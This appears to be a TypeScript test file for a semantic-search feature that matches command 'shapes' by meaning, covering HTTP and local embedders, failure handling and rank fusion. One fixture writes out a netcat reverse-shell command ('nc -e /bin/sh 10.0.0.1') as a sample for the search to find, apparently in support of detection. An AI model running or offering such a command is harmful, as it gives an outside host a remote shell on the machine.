import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { json } from 'node:stream/consumers';
import { after, before, describe, test } from 'node:test';

import { VedetteError } from '@vedette/core';
import { z } from 'zod';

import { fuseRankings } from './fuse-rankings.ts';
import { createHttpEmbedder } from './http-embedder.ts';
import { createLocalEmbedder } from './local-embedder.ts';
import { createShapeVectors } from './shape-vectors.ts';

/** What a model knows, and words do not. */
const MEANINGS: Readonly<Record<string, number>> = {
  ...{ nc: 0, '/bin/sh': 0, inverse: 0, terminal: 0, tar: 1, pack: 1, backup: 1, ls: 2, list: 2 },
};
const SHAPES = [
  { id: 'shell', text: 'nc -e /bin/sh 10.0.0.1' },
  { id: 'archive', text: 'tar czf backup.tgz' },
  { id: 'listing', text: 'ls -la' },
];
const Request = z.object({ model: z.string(), input: z.array(z.string()) });

type Reply = (
  input: readonly string[],
) => { readonly status?: number; readonly body: string } | null;

function vectorOf(text: string): number[] {
  const vector = [0.01, 0.01, 0.01];
  for (const word of text.split(' ')) {
    const meaning = MEANINGS[word];
    if (meaning !== undefined) vector[meaning] = (vector[meaning] ?? 0) + 1;
  }
  return vector;
}

const answer: Reply = (input) => ({
  body: JSON.stringify({
    data: input.map((text, index) => ({ index, embedding: vectorOf(text) })).toReversed(),
  }),
});

describe('an embedding model', () => {
  let server: Server;
  let url = '';
  let reply: Reply = answer;
  let keys: (string | undefined)[] = [];
  before(async () => {
    server = createServer((request, response) => {
      const tell = async (): Promise<void> => {
        const { input } = Request.parse(await json(request));
        keys.push(request.headers.authorization);
        const told = reply(input);
        // Null: it hangs.
        if (told !== null) response.writeHead(told.status ?? 200).end(told.body);
      };
      void tell();
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const address = server.address();
    if (address === null || typeof address === 'string') throw new TypeError('no TCP address');
    url = `http://127.0.0.1:${address.port}/v1/`;
  });
  after(() => {
    server.closeAllConnections();
    server.close();
  });

  test('finds by meaning what has not one of the words', async () => {
    reply = answer;
    keys = [];
    const vectors = createShapeVectors(createHttpEmbedder({ url, model: 'm', key: 'k' }), Date.now);
    vectors.follow(SHAPES);
    await vectors.settled();
    const nearest = await vectors.nearest('inverse terminal', 10);
    assert.equal(nearest?.[0]?.id, 'shell');
    assert.ok(nearest[0].likeness > 0.9);
    assert.deepEqual(new Set(keys), new Set(['Bearer k']));
    vectors.follow(SHAPES.slice(1));
    await vectors.settled();
    const left = await vectors.nearest('inverse terminal', 10);
    assert.deepEqual(left?.map(({ id }) => id).toSorted(), ['archive', 'listing']);
  });

  const broken: Readonly<Record<string, Reply>> = {
    'that refuses': () => ({ status: 500, body: 'no' }),
    'that answers no JSON': () => ({ body: '<html>' }),
    'that answers other vectors than were asked for': () => ({ body: '{"data":[]}' }),
    'that answers vectors of two lengths': (input) => ({
      body: JSON.stringify({
        data: input.map((_, index) => ({ index, embedding: Array(index + 1).fill(1) })),
      }),
    }),
    'that answers a vector without a direction': (input) => ({
      body: JSON.stringify({ data: input.map((_, index) => ({ index, embedding: [0, 0] })) }),
    }),
    'that answers without end': () => ({ body: 'x'.repeat(20 * 1024 * 1024) }),
    'that hangs': () => null,
  };
  for (const [what, told] of Object.entries(broken)) {
    test(`one ${what} is left in peace, and nobody waits for it twice`, async () => {
      reply = told;
      let nowMs = 0;
      const vectors = createShapeVectors(createHttpEmbedder({ url, model: 'm' }), () => nowMs);
      const isOfMany = what.includes('two lengths');
      if (isOfMany) {
        vectors.follow(SHAPES);
        await vectors.settled();
      }
      assert.equal(await vectors.nearest('a question', 5), null);
      reply = answer;
      assert.equal(await vectors.nearest('a question', 5), null, 'for a minute');
      nowMs += 61_000;
      vectors.follow(SHAPES);
      await vectors.settled();
      assert.equal((await vectors.nearest('pack a backup', 5))?.[0]?.id, 'archive');
    });
  }

  test('that does not heed its signal is not waited for', async () => {
    const embed = (): Promise<never> => new Promise(() => {});
    const vectors = createShapeVectors({ name: 'deaf', embed }, Date.now);
    assert.equal(await vectors.nearest('a question', 5), null);
  });

  test('is not asked where anybody could listen in', () => {
    for (const bad of [
      'http://models.example/v1',
      'ftp://127.0.0.1/',
      'https://a:b@models.example/v1',
      'nonsense',
    ]) {
      assert.throws(() => createHttpEmbedder({ url: bad, model: 'm' }), VedetteError, bad);
    }
    for (const good of ['https://models.example/v1', 'http://[::1]:8080/v1', 'http://127.0.0.1/v1'])
      createHttpEmbedder({ url: good, model: 'm' });
  });
});

describe('a model in a folder', () => {
  const folder = mkdtempSync(join(tmpdir(), 'vedette-model-'));
  after(() => rmSync(folder, { recursive: true, force: true }));

  test('needs its files, and the package that runs it', async () => {
    await assert.rejects(createLocalEmbedder(folder), /it has no config\.json/);
    writeFileSync(join(folder, 'config.json'), '{}');
    const missing = (): Promise<unknown> => Promise.reject(new Error('Cannot find package'));
    await assert.rejects(createLocalEmbedder(folder, missing), /npm install @huggingface/);
  });

  test('is run without fetching anything', async () => {
    writeFileSync(join(folder, 'config.json'), '{}');
    const env: Record<string, unknown> = {};
    const pipeline = async () => async (texts: readonly string[]) => ({
      tolist: () => texts.map(vectorOf),
    });
    const embedder = await createLocalEmbedder(folder, async () => ({ pipeline, env }));
    const [vector] = await embedder.embed(['tar'], AbortSignal.timeout(1_000));
    assert.equal(vector?.length, 3);
    assert.equal(env['allowRemoteModels'], false);
  });
});

test('two rankings are one: what both find comes first, and none hides what the other found', () => {
  const hits = ['a', 'b'].map((id) => ({ id, score: 9, why: ['words'] }));
  const nearest = [
    { id: 'b', likeness: 0.9 },
    { id: 'c', likeness: 0.8 },
    { id: 'd', likeness: 0.1 },
  ];
  const fused = fuseRankings(hits, nearest);
  assert.deepEqual(
    fused.map(({ id }) => id),
    ['b', 'a', 'c'],
  );
  assert.deepEqual(fused[0]?.why, ['words', 'the model finds it like the question']);
});
